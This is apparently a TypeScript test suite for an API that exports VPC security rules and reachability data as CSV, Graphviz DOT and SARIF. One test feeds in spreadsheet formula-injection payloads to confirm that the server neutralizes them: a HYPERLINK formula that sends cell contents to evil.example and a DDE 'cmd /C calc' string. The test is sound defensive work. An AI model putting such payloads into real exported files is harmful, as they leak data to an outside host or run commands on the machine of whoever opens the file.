/**
 * Other formats by `Accept`: a VPC's rules as CSV, reachability as CSV and Graphviz DOT, the
 * analysis as SARIF 2.1.0; JSON stays the default, and the OpenAPI document declares each.
 */
import { expect, layer } from "@effect/vitest"
import { Effect, FastCheck as fc } from "effect"
import { raw, setProviderConfig, testServer, workspace } from "./Harness.js"

type Json = Record<string, any>

/**
 * RFC 4180, read back: the oracle for what the server writes. Each cell as a spreadsheet holds
 * it (`shown`), or as it was before the server neutralized it (one leading `'` taken off).
 */
const parseCsv = (text: string, as: "shown" | "restored" = "restored"): Array<Array<string>> =>
  parseShown(text).map((row) => row.map((cell) => as === "shown" || !cell.startsWith("'") ? cell : cell.slice(1)))

const parseShown = (text: string): Array<Array<string>> => {
  const rows: Array<Array<string>> = []
  let row: Array<string> = []
  let field = ""
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted && c === "\"" && text[i + 1] === "\"") {
      field += "\""
      i++
    } else if (c === "\"") {
      quoted = !quoted
    } else if (!quoted && c === ",") {
      row.push(field)
      field = ""
    } else if (!quoted && c === "\r" && text[i + 1] === "\n") {
      row.push(field)
      rows.push(row)
      row = []
      field = ""
      i++
    } else {
      field += c
    }
  }
  return rows
}

const rule = (vpcId: string, name: string, overrides: Json = {}) => ({
  vpc_id: vpcId,
  name,
  description: "a \"quoted\", comma'd\r\nline",
  direction: "ingress",
  action: "allow",
  priority: 100,
  protocol: "tcp",
  ports: "443",
  remote_type: "cidr",
  remote_cidr: "203.0.113.0/24",
  ...overrides
})

layer(testServer(), { excludeTestServices: true })("exports", (it) => {
  it.effect.prop(
    "the rules as CSV read back to the JSON answer's fields, in evaluation order",
    [fc.array(fc.string({ minLength: 1, maxLength: 20 }).filter((s) => s.trim() === s && !s.includes("\u0000")), {
      minLength: 1,
      maxLength: 4
    })],
    ([names]) =>
      Effect.gen(function*() {
        const w = yield* workspace
        for (const [i, name] of names.entries()) {
          yield* raw("POST", "/security-rules", {
            headers: w.headers,
            body: rule(w.vpc.id, name, { priority: 100 + i })
          })
        }
        const json = yield* raw("GET", `/security-rules?vpc_id=${w.vpc.id}`, { headers: w.headers })
        const csv = yield* raw("GET", `/security-rules?vpc_id=${w.vpc.id}`, {
          headers: { ...w.headers, accept: "text/csv" }
        })
        expect(csv.status).toBe(200)
        expect(csv.contentType).toBe("text/csv; charset=utf-8")
        expect(csv.headers["vary"]).toBe("Accept")
        expect(csv.headers["etag"]).toBe(json.headers["etag"])
        const [header, ...rows] = parseCsv(csv.text)
        expect(header!.slice(0, 3)).toEqual(["id", "name", "description"])
        const listed = (json.body as Json).rules as Array<Json>
        expect(rows.map((r) => [r[0], r[1], r[2], r[5]])).toEqual(
          listed.map((r) => [r.id, r.name, r.description ?? "", String(r.priority)])
        )
      }),
    { fastCheck: { numRuns: 8 } }
  )

  it.effect("a rule whose name or description a spreadsheet would run is exported as text, and reads back", () =>
    Effect.gen(function*() {
      const w = yield* workspace
      const name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
      const description = "@SUM(1+1)*cmd|' /C calc'!A0"
      yield* raw("POST", "/security-rules", { headers: w.headers, body: rule(w.vpc.id, name, { description }) })
      for (const start of ["+1", "-1", "\tx", "'quoted"]) {
        yield* raw("POST", "/security-rules", { headers: w.headers, body: rule(w.vpc.id, `${start} rule`) })
      }
      const csv = yield* raw("GET", `/security-rules?vpc_id=${w.vpc.id}`, {
        headers: { ...w.headers, accept: "text/csv" }
      })
      const shown = parseCsv(csv.text, "shown").slice(1)
      for (const row of shown) {
        expect(row[1]).not.toMatch(/^[=+\-@\t\r]/)
        expect(row[2]).not.toMatch(/^[=+\-@\t\r]/)
      }
      expect(shown).toContainEqual(expect.arrayContaining([`'${name}`, `'${description}`]))
      const restored = parseCsv(csv.text).slice(1).map((row) => row[1])
      expect(restored).toEqual(expect.arrayContaining([name, "+1 rule", "-1 rule", "\tx rule", "'quoted rule"]))
    }))

  it.effect("reachability as CSV and DOT, the analysis as SARIF; JSON by default and for */*", () =>
    Effect.gen(function*() {
      yield* setProviderConfig()
      const w = yield* workspace
      // Published on 443: the internet reaches the pod there, and no other address of the subnet.
      const pod = (yield* w.createPod({ service_port: 443, external_access: true, external_inbound: true }))
        .body as Json
      yield* raw("POST", "/security-rules", {
        headers: w.headers,
        body: rule(w.vpc.id, "https", { remote_cidr: "0.0.0.0/0" })
      })
      // A rule after a broader one of the same traffic: shadowed.
      yield* raw("POST", "/security-rules", {
        headers: w.headers,
        body: rule(w.vpc.id, "https again", { priority: 200, remote_cidr: "203.0.113.0/25" })
      })
      const matrix = (yield* raw("GET", `/vpcs/${w.vpc.id}/reachability?detail=pods`, { headers: w.headers }))
        .body as Json
      const csv = yield* raw("GET", `/vpcs/${w.vpc.id}/reachability?detail=pods`, {
        headers: { ...w.headers, accept: "text/csv" }
      })
      const [header, ...rows] = parseCsv(csv.text)
      expect(header).toEqual([
        "from_kind",
        "from_id",
        "from_name",
        "to_kind",
        "to_id",
        "to_name",
        "tcp",
        "tcp_partial",
        "udp",
        "udp_partial",
        "icmp"
      ])
      expect(rows.length).toBe(matrix.pairs.length)
      expect(rows).toContainEqual(["internet", "", "internet", "pod", pod.id, pod.name, "443", "", "", "", "denied"])
      expect(rows).toContainEqual([
        "internet",
        "",
        "internet",
        "subnet",
        w.subnet.id,
        "apps",
        "",
        "443",
        "",
        "",
        "denied"
      ])

      const dot = yield* raw("GET", `/vpcs/${w.vpc.id}/reachability?detail=pods`, {
        headers: { ...w.headers, accept: "text/vnd.graphviz, application/json;q=0.5" }
      })
      expect(dot.contentType).toBe("text/vnd.graphviz; charset=utf-8")
      expect(dot.text).toMatch(/^digraph "vpc /)
      expect(dot.text).toContain(`"internet:" -> "pod:${pod.id}" [label="tcp 443"];`)

      const analysis = (yield* raw("GET", `/security-rules/analysis?vpc_id=${w.vpc.id}`, { headers: w.headers }))
        .body as Json
      const sarif = yield* raw("GET", `/security-rules/analysis?vpc_id=${w.vpc.id}`, {
        headers: { ...w.headers, accept: "application/sarif+json" }
      })
      expect(sarif.contentType).toBe("application/sarif+json; charset=utf-8")
      const log = JSON.parse(sarif.text) as Json
      expect(log.version).toBe("2.1.0")
      expect(log.runs[0].tool.driver.rules.map((r: Json) => r.id)).toEqual(["shadowed", "redundant", "conflict"])
      expect(log.runs[0].results.map((r: Json) => [r.ruleId, r.locations[0].logicalLocations[0].fullyQualifiedName]))
        .toEqual(
          analysis.findings.map((f: Json) => [f.kind, `vpcs/${w.vpc.id}/security-rules/${f.rule_id}`])
        )
      expect(log.runs[0].results.map((r: Json) => r.ruleId)).toContain("shadowed")

      for (const accept of [undefined, "*/*", "application/json", "text/html"]) {
        const answer = yield* raw("GET", `/vpcs/${w.vpc.id}/reachability?detail=pods`, {
          headers: accept === undefined ? w.headers : { ...w.headers, accept }
        })
        expect(answer.contentType, String(accept)).toBe("application/json")
      }
    }))

  it.effect("the OpenAPI document declares each format", () =>
    Effect.gen(function*() {
      const document = (yield* raw("GET", "/openapi.json")).body as Json
      const content = (path: string) => Object.keys(document.paths[path].get.responses["200"].content).sort()
      expect(content("/security-rules")).toEqual(["application/json", "text/csv"])
      expect(content("/vpcs/{vpc_id}/reachability")).toEqual(["application/json", "text/csv", "text/vnd.graphviz"])
      expect(content("/security-rules/analysis")).toEqual(["application/json", "application/sarif+json"])
    }))
})
